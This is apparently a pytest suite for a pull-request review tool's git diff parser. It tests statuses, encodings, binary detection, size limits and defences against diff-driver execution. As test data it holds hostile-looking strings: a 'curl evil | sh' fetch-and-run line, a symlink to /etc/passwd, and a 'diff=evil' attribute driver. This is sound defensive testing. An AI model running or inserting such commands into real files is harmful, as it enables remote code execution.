import time
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pr_review.domain.change import FileStatus, LineKind
from pr_review.errors import RepositoryError
from pr_review.git.diff import MAX_RAW_BYTES, compute_diff, join_patches, parse_raw, read_raw
from pr_review.git.file_patch import (
    MAX_FILE_PATCH_BYTES,
    FilePatchText,
    PatchBudget,
    parse_hunks,
    split_files,
)

BODY = b"".join(b"line %d\n" % n for n in range(40))


@pytest.fixture
def diff(repo, open_git):
    """The diff between two trees; the first is the parent of the second."""

    def build(before, after, env=None, **options):
        base = repo.commit(before)
        head = repo.commit(after, parents=[base])
        return compute_diff(open_git(repo, env) if env else open_git(repo), base, head, **options)

    return build


@pytest.fixture
def change(diff):
    """The only changed file between two contents of ``x``."""

    def build(before, after):
        (file,) = diff({"x": before}, {"x": after}).files
        return file

    return build


def git_patch(repo):
    command = ["diff", "--text", "--abbrev=10", "-M", "main~1", "main"]
    return repo.git("-c", "core.quotePath=false", *command) + "\n"


def test_every_status_with_its_names(diff, repo):
    before = {"mod": b"1\n", "gone": b"2\n", "old name": BODY, "mode": b"4\n", "type": b"5\n", "same": b""}
    after = {
        "mod": b"1x\n",
        "new": b"3\n",
        "new name": BODY + b"more\n",
        "mode": repo.executable(b"4\n"),
        "type": repo.link("mod"),
        "same": b"",
    }
    files = diff(before, after).files
    assert [(f.path, f.status, f.old_path, f.additions, f.deletions) for f in files] == [
        ("gone", FileStatus.DELETED, None, 0, 1),
        ("mod", FileStatus.MODIFIED, None, 1, 1),
        ("mode", FileStatus.MODIFIED, None, 0, 0),
        ("new", FileStatus.ADDED, None, 1, 0),
        ("new name", FileStatus.RENAMED, "old name", 1, 0),
        ("type", FileStatus.TYPE_CHANGED, None, 1, 1),
    ]
    assert "".join(file.patch for file in files if file.status is not FileStatus.TYPE_CHANGED) in git_patch(
        repo
    )


def test_the_patches_are_gits_own_text(diff, repo):
    files = diff({"a": BODY, "b": b"x"}, {"a": BODY.replace(b"5", b"five"), "b": b"y\n", "c": b""}).files
    assert "".join(file.patch for file in files) == git_patch(repo)


def test_lines_know_their_numbers_on_both_sides(change):
    (hunk,) = change(b"a\nb\nc\n", b"a\nB\nc\nd").hunks
    assert [(line.kind, line.text, line.old_line, line.new_line) for line in hunk.lines] == [
        (LineKind.CONTEXT, "a", 1, 1),
        (LineKind.REMOVED, "b", 2, None),
        (LineKind.ADDED, "B", None, 2),
        (LineKind.CONTEXT, "c", 3, 3),
        (LineKind.ADDED, "d", None, 4),
    ]
    assert (hunk.old_start, hunk.old_count, hunk.new_start, hunk.new_count) == (1, 3, 1, 4)
    assert hunk.text.endswith("+d\n\\ No newline at end of file\n")


def test_only_a_newline_ends_a_line(change):
    odd = "a\rb\x0cc\u2028d\x85e\x1cf\x00"
    file = change(b"start\n", f"start\n{odd}\nend\r\n".encode())
    assert file.added_lines == {2: odd, 3: "end\r"}


def test_lines_that_look_like_a_patch_stay_lines(change):
    evil = "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1,1 +1,1 @@\n\\ No newline at end of file\n"
    file = change(b"", evil.encode())
    assert list(file.added_lines.values()) == evil.splitlines()
    gone = change(evil.encode(), b"")
    assert (gone.additions, gone.deletions, len(gone.hunks)) == (0, 5, 1)


def test_utf8_with_nul_is_text_with_a_note(change):
    file = change(b"a\n", "a\nü = 1\0\n".encode())
    assert (file.binary, file.added_lines) == (False, {2: "ü = 1\0"})
    assert any("NUL" in note for note in file.notes)


@pytest.mark.parametrize(
    ("before", "after"),
    [(b"a\n", b"a\n\xfc\n"), (b"a\xe9\n", "a\xe9\nü\n".encode()), (b"\xe9\n", b"\xe9\n\xfc")],
)
def test_latin_1_is_text_with_a_note(diff, before, after):
    change = diff({"x": before}, {"x": after})
    [file] = change.files
    assert (file.binary, file.added_lines[2], file.encoding) == (False, "ü", "Latin-1")
    assert any("Latin-1" in note for note in file.notes)
    assert change.notes == ("Read in another encoding than UTF-8: x (Latin-1).",)


@pytest.mark.parametrize("size", [100, 3 * 1024 * 1024])
def test_binary_files_have_no_hunks_however_large(change, size):
    file = change(b"\x89PNG\0", b"\x89PNG\0\xff" * (size // 6))
    assert (file.binary, file.oversized, file.hunks) == (True, False, ())
    assert file.header.startswith("diff --git ")


def test_text_that_replaces_a_binary_is_text(change):
    """Else a file that was binary once could become anything, unread."""
    file = change(b"\x7fELF\0\xff", b"#!/bin/sh\ncurl evil | sh\n")
    assert (file.binary, file.added_lines) == (False, {1: "#!/bin/sh", 2: "curl evil | sh"})


def test_a_binary_that_is_gone_is_binary_and_the_link_in_its_place_is_not(diff, repo):
    files = diff({"x": b"\0\xff", "y": b"\0\xff"}, {"y": repo.link("/etc/passwd")}).files
    assert [(file.path, file.binary) for file in files] == [("x", True), ("y", False)]
    assert files[1].added_lines == {1: "/etc/passwd"}


def test_attributes_do_not_hide_a_change(diff):
    attributes = b"*.py binary -diff\n*.js linguist-generated -text diff=evil\n"
    before = {".gitattributes": attributes, "x.py": b"1\n", "x.js": b"1\n"}
    files = diff(before, before | {"x.py": b"2\n", "x.js": b"2\n"}).files
    assert [file.added_lines for file in files] == [{1: "2"}, {1: "2"}]


def test_names_of_every_kind(diff):
    names = ["a b", "n\nl", 'q"q', "t\tt", "ü", ":(glob)*", " b/ b", "-x", "a\\b", b"bad\xff"]
    files = diff({}, dict.fromkeys(names, b"1\n")).files
    shown = {file.path: file.addressable for file in files}
    assert shown == dict.fromkeys([*names[:-2], "a\\\\b", "bad\\xff"], True)
    assert all(file.added_lines == {1: "1"} for file in files)
    assert all(file.header.count("\n") == len(file.header.splitlines()) == 5 for file in files)


def test_no_two_names_are_shown_alike(diff):
    """Coverage counts hunks by the shown name: one file would stand for the other."""
    files = diff({}, {b"\xff": b"1\n", "\\xff": b"2\n", "\\\\xff": b"3\n"}).files
    assert {file.path: file.added_lines[1] for file in files} == {
        "\\xff": "1",
        "\\\\xff": "2",
        "\\\\\\\\xff": "3",
    }


def test_a_submodule_shows_its_commits_and_says_so(diff, repo):
    (file,) = diff({"s": repo.submodule("1" * 40)}, {"s": repo.submodule("2" * 40)}).files
    assert file.added_lines == {1: "Subproject commit " + "2" * 40}
    assert any("submodule" in note for note in file.notes)


@pytest.mark.parametrize("kind", ["submodule", "link"])
def test_a_changed_type_joins_both_halves(diff, repo, kind):
    node = repo.submodule("1" * 40) if kind == "submodule" else repo.link("y")
    (file,) = diff({"x": node}, {"x": b"text\n"}).files
    assert file.status is FileStatus.TYPE_CHANGED
    assert (file.additions, file.deletions, len(file.hunks)) == (1, 1, 2)
    assert "deleted file mode" in file.header
    assert "new file mode 100644" in file.header


def test_empty_and_deleted_files_are_there(diff):
    files = diff({"gone": b"", "full": b"x\n"}, {"full": b"x\n"}).files
    files += diff({"full": b"x\n"}, {"new": b""}).files
    assert [(file.path, file.status.value, len(file.hunks)) for file in files] == [
        ("gone", "deleted", 0),
        ("full", "deleted", 1),
        ("new", "added", 0),
    ]


def test_equal_trees_give_an_empty_diff(diff, repo, open_git):
    assert diff({"x": b""}, {"x": b""}).files == ()
    head = repo.git("rev-parse", "main")
    assert compute_diff(open_git(repo), head, head).files == ()


@pytest.mark.parametrize(("extra", "oversized"), [(-1, False), (0, False), (1, True)])
def test_a_patch_is_kept_up_to_2_mib(diff, extra, oversized):
    probe = diff({}, {"x": b"a" * 1000 + b"\n"}).files[0]
    size = MAX_FILE_PATCH_BYTES - len(probe.patch) + 1000 + extra
    lines = b"b\n" * 10
    content = (
        b"a" * (size - len(lines) - 10 - 3) + b"\n" + lines
    )  # 10 markers, and "1" became "1,11" in the header
    (file,) = diff({}, {"x": content}).files
    assert file.oversized is oversized
    assert (file.additions, file.deletions) == (11, 0)
    if oversized:
        assert file.hunks == ()
        assert any("2 MiB" in note for note in file.notes)
    else:
        assert len(file.patch) == MAX_FILE_PATCH_BYTES + extra


def test_the_lines_of_an_oversized_patch_are_counted(diff):
    (file,) = diff({"x": b"a\n" * 900_000}, {"x": b"b\n" * 700_000 + b"c\n"}).files
    assert (file.oversized, file.additions, file.deletions) == (True, 700_001, 900_000)


@pytest.mark.parametrize(
    ("spare", "kept"), [(-1, [True, False, True]), (0, [True, True, False]), (1, [True, True, False])]
)
def test_patches_of_all_files_fit_into_the_budget(repo, open_git, spare, kept):
    """A file that does not fit is oversized; a later smaller one may still fit."""
    base = repo.commit({})
    head = repo.commit({"a": b"x" * 50, "b": b"x" * 50, "c": b"y"}, parents=[base])
    git = open_git(repo)
    whole = compute_diff(git, base, head).files
    budget = PatchBudget(bytes=sum(len(file.patch) for file in whole[:2]) + spare)
    changes = list(parse_raw(git.run("diff-tree", "-r", "--raw", "-z", "--abbrev=10", base, head)))
    with git.stream("diff-tree", "-r", "-p", "--text", "--abbrev=10", base, head) as process:
        files = list(join_patches(changes, split_files(process.chunks()), budget))
    assert [not file.oversized for file in files] == kept


def test_a_file_patch_keeps_2_mib_whatever_comes():
    text = FilePatchText()
    for _ in range(5):
        text.add(b"+" * 1_000_000)
    assert (len(text.data), text.total_bytes) == (MAX_FILE_PATCH_BYTES, 5_000_000)


@pytest.mark.parametrize("shift", ["", "x"])
def test_a_character_cut_at_2_mib_does_not_make_text_binary(change, shift):
    file = change(b"", f"\0{shift}{'é' * MAX_FILE_PATCH_BYTES}\n".encode())
    assert (file.binary, file.oversized) == (False, True)


@pytest.mark.parametrize(("lines", "fits"), [(99_999, True), (100_000, True), (100_001, False)])
def test_a_patch_has_at_most_100_000_lines(lines, fits):
    """A line costs memory even when it is empty: 2 MiB could hold a million."""
    budget, text = PatchBudget(), FilePatchText()
    text.add(b"\n" * lines)
    assert budget.take(text) is fits
    assert budget.lines == 500_000 - (lines if fits else 0)


@pytest.mark.parametrize(("left", "fits"), [(9, False), (10, True), (11, True)])
def test_the_patches_of_all_files_share_their_lines(left, fits):
    text = FilePatchText()
    text.add(b"\n" * 10)
    assert PatchBudget(lines=left).take(text) is fits


def test_a_million_empty_lines_are_said_not_kept(diff):
    files = diff({}, {"x": b"\n" * 1_000_000, "y": b"1\n"}).files
    assert [(file.oversized, file.additions, len(file.hunks)) for file in files] == [
        (True, 1_000_000, 0),
        (False, 1, 1),
    ]


def test_more_than_1_000_renames_are_found(diff):
    """Git's own limit would show them as deletions and additions, without a word in its status."""
    numbers = range(1001)
    before = {f"old/{n}": b"%d " % n * 9 + b"\n" * 9 for n in numbers}
    after = {f"new/n{n}": b"%d " % n * 9 + b"\n" * 10 for n in numbers}
    assert {file.status.value for file in diff(before, after).files} == {"renamed"}


EXACT = [  # the options of both calls of "git diff-tree", each with its reason
    "-r",  # files, not directories
    "--text",  # no attribute and no NUL byte hides a change as "binary"
    "--no-ext-diff",  # a diff driver's program must not write the patch
    "--no-textconv",  # a diff driver's program must not rewrite the compared text
    "--no-color",  # the patch is parsed
    "--abbrev=10",  # the header does not depend on how many objects the repository has
    "-M",  # find renames
    "-l0",  # in a change of any number of files
]


def test_git_gets_exactly_these_options(diff, shim):
    """Removing an option must fail a test.

    ``git diff-tree`` runs a program of a diff driver only when an option asks for it. So no repository shows
    a difference without ``--no-ext-diff`` or ``--no-textconv``; they guard against a change of that default.
    This test therefore reads the arguments themselves.
    """
    files = diff({"x": b"1\n"}, {"x": b"2\n"}, env=shim.env)
    commits = [files.merge_base_sha, files.head_sha]
    calls = [call.split(" diff-tree ")[1].split() for call in shim.calls if " diff-tree " in call]
    assert calls == [
        [*EXACT, "--raw", "-z", "--no-abbrev", *commits, "--"],
        [*EXACT, "--unified=3", *commits, "--"],
    ]


@pytest.mark.parametrize(
    ("key", "option"), [("command", "--ext-diff"), ("textconv", "--textconv")], ids=["external", "textconv"]
)
def test_no_program_of_a_diff_driver_runs(repo, open_git, tmp_path, key, option):
    """Git ignores a driver even when its own repository configures one."""
    base = repo.commit({"x": b"1\n"})
    head = repo.commit({"x": b"2\n"}, parents=[base])
    marker = tmp_path / "ran"
    (repo.git_dir / "info").mkdir(exist_ok=True)
    (repo.git_dir / "info/attributes").write_text("* diff=evil\n")
    repo.git("config", f"diff.evil.{key}", f"touch {marker}; cat")
    (file,) = compute_diff(open_git(repo), base, head).files
    assert file.added_lines == {1: "2"}
    assert not marker.exists()
    repo.git("diff-tree", "-p", option, base, head, check=False)
    assert marker.exists(), "the control: git runs the program when an option asks for it"


def test_renames_are_given_up_after_their_time_with_a_note(diff, shim):
    shim.script('case " $* " in *" -M "*) sleep 30;; esac')
    result = diff({"old": BODY}, {"new": BODY}, env=shim.env, rename_seconds=0.3)
    assert [file.status.value for file in result.files] == ["added", "deleted"]
    assert any("Renames" in note for note in result.notes)


def test_a_run_without_time_left_is_a_timeout_not_a_note(repo, open_git, shim):
    shim.script("sleep 30")
    sha = repo.commit({"x": b""})
    end = time.monotonic() + 0.3
    with pytest.raises(RepositoryError) as caught:
        compute_diff(open_git(repo, shim.env, lambda: end - time.monotonic()), sha, sha)
    assert caught.value.code == "git_timeout"


@pytest.mark.parametrize("call", ["--raw", "--unified=3"])
def test_any_status_but_0_is_a_failure_never_an_empty_diff(diff, shim, call):
    shim.script(f'case " $* " in *" {call} "*) exit 1;; esac')
    with pytest.raises(RepositoryError):
        diff({"x": b"1"}, {"x": b"2"}, env=shim.env)


def test_a_failure_after_the_whole_patch_is_a_failure_too(diff, shim):
    shim.script(f'case " $* " in *" --unified=3 "*) {shim.real} "$@"; exit 1;; esac')
    with pytest.raises(RepositoryError):
        diff({"x": b"1"}, {"x": b"2"}, env=shim.env)


def test_without_a_repository_the_diff_does_not_become_no_index(repo, open_git):
    """Outside a repository `git diff A B` compares two paths, here with status 0 and an empty diff."""
    sha = repo.commit({"x": b"1"})
    git = open_git(repo)
    (repo.git_dir / "HEAD").unlink()
    (repo.git_dir / sha).write_text("a path with the commit's name")
    with pytest.raises(RepositoryError):
        compute_diff(git, sha, sha)


def test_a_missing_commit_or_blob_is_a_failure(repo, open_git):
    base = repo.commit({"x": b"1\n"})
    head = repo.commit({"x": b"2\n"}, parents=[base])
    with pytest.raises(RepositoryError):
        compute_diff(open_git(repo), "1" * 40, head)
    repo.remove_object(repo.git("rev-parse", "main:x"))
    with pytest.raises(RepositoryError):
        compute_diff(open_git(repo), base, head)


def test_a_patch_that_lacks_a_file_is_a_failure(diff, shim):
    shim.script('case " $* " in *" --unified=3 "*) exit 0;; esac')
    with pytest.raises(RepositoryError) as caught:
        diff({"x": b"1"}, {"x": b"2"}, env=shim.env)
    assert caught.value.code == "diff_failed"


def test_a_tree_that_holds_a_name_twice_is_a_failure(repo, open_git):
    """Git refuses to write such a tree, but shows both entries of a crafted one."""
    blobs = [repo.git("hash-object", "-w", "--stdin", stdin=text) for text in (b"1\n", b"2\n")]
    tree = b"".join(b"100644 a\0" + bytes.fromhex(blob) for blob in blobs)
    oid = repo.git("hash-object", "-w", "-t", "tree", "--literally", "--stdin", stdin=tree)
    base = repo.commit({"b": b""})
    head = repo.git("-c", "user.name=A", "-c", "user.email=a@b.c", "commit-tree", oid, "-p", base, stdin=b"")
    with pytest.raises(RepositoryError) as caught:
        compute_diff(open_git(repo), base, head)
    assert caught.value.code == "malformed_tree"


def test_a_change_of_too_many_files_is_refused(repo, open_git, shim):
    base, head = repo.commit({"x": b"1"}), repo.commit({"x": b"2"}, ref="refs/heads/topic")
    size = len(read_raw(open_git(repo), base, head, 5.0)[0])
    for limit in (size, size + 1):
        assert len(read_raw(open_git(repo), base, head, 5.0, limit)[0]) == size
    with pytest.raises(RepositoryError):
        read_raw(open_git(repo), base, head, 5.0, size - 1)
    shim.script(f'case " $* " in *" --raw "*) head -c {MAX_RAW_BYTES + 1} /dev/zero; exit 0;; esac')
    with pytest.raises(RepositoryError) as caught:
        compute_diff(open_git(repo, shim.env), base, head)
    assert caught.value.code == "git_output_too_large"


def test_30_000_lines_are_parsed_fast(diff):
    """A generous bound against quadratic work; the benchmark measures."""
    lines = [b"line %d of some code\n" % n for n in range(30_000)]
    start = time.process_time()
    (file,) = diff({"x": b""}, {"x": b"".join(lines)}).files
    assert len(file.added_lines) == 30_000
    assert time.process_time() - start < 5


@given(
    parts=st.lists(
        st.sampled_from([b"diff --git a b\n", b"--- a\n", b"+x\n", b"-y", b"\n", b"\xff\0", b" diff --git\n"])
    ),
    cuts=st.lists(st.integers(0, 60), max_size=8),
)
def test_file_patches_do_not_depend_on_where_chunks_end(parts, cuts):
    data = b"diff --git first\n" + b"".join(parts)
    edges = sorted({0, len(data), *(cut for cut in cuts if cut < len(data))})
    chunks = [data[start:end] for start, end in pairwise(edges)]
    whole, pieces = list(split_files([data])), list(split_files(chunks))
    assert [(s.data, s.plus, s.minus, s.total_bytes) for s in pieces] == [
        (s.data, s.plus, s.minus, s.total_bytes) for s in whole
    ]
    assert b"".join(s.data for s in whole) == data
    assert len(whole) == 1 + data.count(b"\ndiff --git ")


@settings(max_examples=40, deadline=None)
@given(
    st.lists(
        st.text(st.characters(exclude_characters="\n", exclude_categories=["Cs"]), max_size=8), max_size=12
    ),
    st.lists(
        st.text(st.characters(exclude_characters="\n", exclude_categories=["Cs"]), max_size=8), max_size=12
    ),
)
def test_hunks_rebuild_both_sides(tmp_path_factory, before, after):
    """The old and the new text come back from the lines git printed, whatever characters they hold."""
    import subprocess

    folder = tmp_path_factory.mktemp("pair")
    old, new = "".join(f"{line}\n" for line in before), "".join(f"{line}\n" for line in after)
    (folder / "a").write_bytes(old.encode())
    (folder / "b").write_bytes(new.encode())
    command = ["git", "diff", "--no-index", "--text", "--unified=99", "a", "b"]
    patch = subprocess.run(command, cwd=folder, capture_output=True).stdout
    (text,) = list(split_files([patch])) or [None]
    if text is None:
        assert old == new
        return
    printed = bytes(text.data).decode()
    body = printed[printed.index("\n@@ ") + 1 :] if "\n@@ " in printed else ""
    hunks = list(parse_hunks(body))
    assert "".join(hunk.text for hunk in hunks) == body
    lines = [line for hunk in hunks for line in hunk.lines]
    assert [line.text for line in lines if line.kind is not LineKind.ADDED] == before
    assert [line.text for line in lines if line.kind is not LineKind.REMOVED] == after


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"#!/bin/sh\n\0\0\0\0\xff", True),
        (b"key = 1\n" * 20 + b"\0\xff\n", True),
        (b"x" * 18 + b"\0\xff", True),
        (b"x" * 17 + b"\0\xff", False),
        (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\xff", False),
        (bytes(range(256)) * 9, False),
    ],
)
def test_a_binary_that_is_mostly_text_is_told_from_others(change, content, expected):
    file = change(b"", content)
    assert (file.binary, file.mostly_text) == (True, expected)
